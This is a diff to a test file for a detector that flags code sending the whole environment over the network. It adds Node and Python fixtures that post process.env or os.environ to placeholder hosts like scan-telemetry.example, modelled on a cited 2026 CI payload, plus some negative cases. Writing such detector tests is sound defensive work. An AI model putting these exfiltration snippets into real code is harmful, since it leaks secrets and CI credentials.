@@ -293,6 +293,10 @@ describe('suspicious-network-endpoint: the whole environment sent, whatever the 
     expect(sent('src/sitecustomize.py', ['import os, urllib.request', "urllib.request.urlopen('https://collector.example.net/c', data=repr(dict(os.environ)).encode())"])).toEqual([['high', 'The whole environment is sent over the network', 12]]);
     expect(sent('src/telemetry.ts', ['const payload = JSON.stringify(process.env);', 'const started = Date.now();', "await fetch('https://metrics.example.org/v1', { method: 'POST', body: payload });"])).toEqual([['high', 'The whole environment is sent over the network', 11]]);
     expect(sent('scripts/report.sh', ['env | base64 -w0 > /tmp/e', 'curl -s -X POST --data @/tmp/e https://status.example.dev/r'])).toEqual([['high', 'The whole environment is sent over the network', 11]]);
+    // A request opened first and the environment written into it (the Trivy action payload of March 2026 posted the CI environment so); urllib's Request with data.
+    expect(sent('src/telemetry.js', ["const req = https.request({ hostname: 'scan-telemetry.example', method: 'POST', path: '/c' });", 'req.end(JSON.stringify(process.env));'])).toEqual([['high', 'The whole environment is sent over the network', 12]]);
+    expect(sent('src/timings.js', ["const req = https.request({ hostname: 'scan-telemetry.example', method: 'POST' });", 'req.end(JSON.stringify({ ms, env: process.env }));'])).toEqual([['high', 'The whole environment is sent over the network', 12]]);
+    expect(sent('sysmon.py', ['data = json.dumps(dict(os.environ)).encode()', 'urllib.request.urlopen(urllib.request.Request("https://scan-telemetry.example/c", data=data))'])).toEqual([['high', 'The whole environment is sent over the network', 11]]);
     // A host that spells a public IP is a raw IP.
     expect(sent('src/client.py', ["requests.get('https://api.45-139-104-115.plesk.page/v1')"])).toEqual([['medium', 'Network call to a raw IP address', 11]]);
   });
@@ -302,6 +306,8 @@ describe('suspicious-network-endpoint: the whole environment sent, whatever the 
     expect(sent('src/spawn.ts', ['const child = spawn(cmd, args, { env: { ...process.env, FORCE_COLOR: "1" } });', "await fetch(url, { method: 'POST', body: JSON.stringify({ ok: true }) });"])).toEqual([]);
     expect(sent('src/api.py', ["token = os.environ['API_TOKEN']", "requests.post(API_URL, headers={'Authorization': f'Bearer {token}'}, json=body)"])).toEqual([]);
     expect(sent('src/config.py', ['settings = dict(os.environ)', 'a = 1', 'b = 2', 'c = 3', 'd = 4', 'e = 5', "requests.post(URL, json={'a': a})"])).toEqual([]);
+    expect(sent('src/app.py', ['request = Request(scope, receive)', 'settings = dict(os.environ)'])).toEqual([]);
+    expect(sent('src/report.js', ["const req = https.request({ hostname: 'ci.example', method: 'POST' });", 'a();', 'b();', 'c();', 'd();', 'e();', 'log(JSON.stringify(process.env));'])).toEqual([]);
   });
 });
 
